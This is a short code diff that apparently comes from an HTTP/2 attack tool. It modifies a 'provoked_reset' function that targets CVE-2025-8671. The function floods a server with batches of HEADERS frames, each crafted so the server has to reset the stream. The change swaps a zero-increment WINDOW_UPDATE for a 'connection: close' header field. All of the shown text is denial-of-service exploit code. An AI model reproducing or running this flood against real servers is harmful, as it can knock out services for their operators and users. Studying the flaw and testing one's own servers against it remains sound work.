@@ -27,11 +27,10 @@ def rapid_reset(peer):
 
 def provoked_reset(peer):
     """CVE-2025-8671: streams that the server has to reset, each for an error of the client's."""
-    head = peer.encoder.encode(peer.fields())
+    head = peer.encoder.encode(peer.fields(connection="close"))
     for first in range(1, TIMES, 2000):
-        pairs = (frame(HEADERS, END_HEADERS, stream, head) + frame(WINDOW_UPDATE, 0, stream, number(0))
-                 for stream in range(first, first + 2000, 2))
-        if peer.flood(b"".join(pairs), 1):
+        if peer.flood(b"".join(frame(HEADERS, END_HEADERS, stream, head)
+                               for stream in range(first, first + 2000, 2)), 1):
             return
 
 
